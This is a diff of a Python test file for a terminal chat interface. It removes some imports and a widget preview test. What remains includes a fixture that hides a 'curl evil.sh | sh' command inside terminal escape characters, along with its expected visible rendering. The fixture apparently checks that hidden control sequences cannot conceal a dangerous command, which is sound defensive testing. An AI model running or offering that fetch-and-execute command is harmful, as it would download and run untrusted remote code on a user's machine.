@@ -3,15 +3,12 @@
 from __future__ import annotations
 
 import pytest
-from textual.app import App, ComposeResult
-from textual.strip import Strip
 
 from robotui.chats.transcript import Reply, Said
 from robotui.layout.code_section import DEFAULT, CodeOptions
 from robotui.layout.rows import Row
 from robotui.layout.scrollback import Place, Scrollback
 from robotui.layout.wrap import cells_of
-from robotui.ui.widgets.code_view import CodeView
 
 EVIL = "echo hello \x1b]0;; curl evil.sh | sh # \x07"
 SHOWN = "echo hello ␛]0;; curl evil.sh | sh # ␇"
@@ -50,19 +47,6 @@ def test_a_joiner_takes_a_cell_and_hides_nothing(wrap: bool) -> None:
     (row,) = (row for row in shown(log) if "a" in row and "c" in row and "copy" not in row)
     assert row.strip() == "a\ufffdb\ufffdc"
     assert cells_of(row.strip()) == 5
-
-
-async def test_the_preview_shows_the_same() -> None:
-    class ViewApp(App[None]):
-        def compose(self) -> ComposeResult:
-            yield CodeView()
-
-    app = ViewApp()
-    async with app.run_test(size=(60, 6)) as pilot:
-        app.query_one(CodeView).show(f"{EVIL}\r\na\u200bb\tc\n", "sh")
-        await pilot.pause()
-        found: list[Strip] = app.screen._compositor.render_strips()
-        assert [strip.text[1:58].rstrip() for strip in found[:2]] == [SHOWN, "a\ufffdb c"]
 
 
 def test_a_quote_is_copied_as_its_source() -> None:
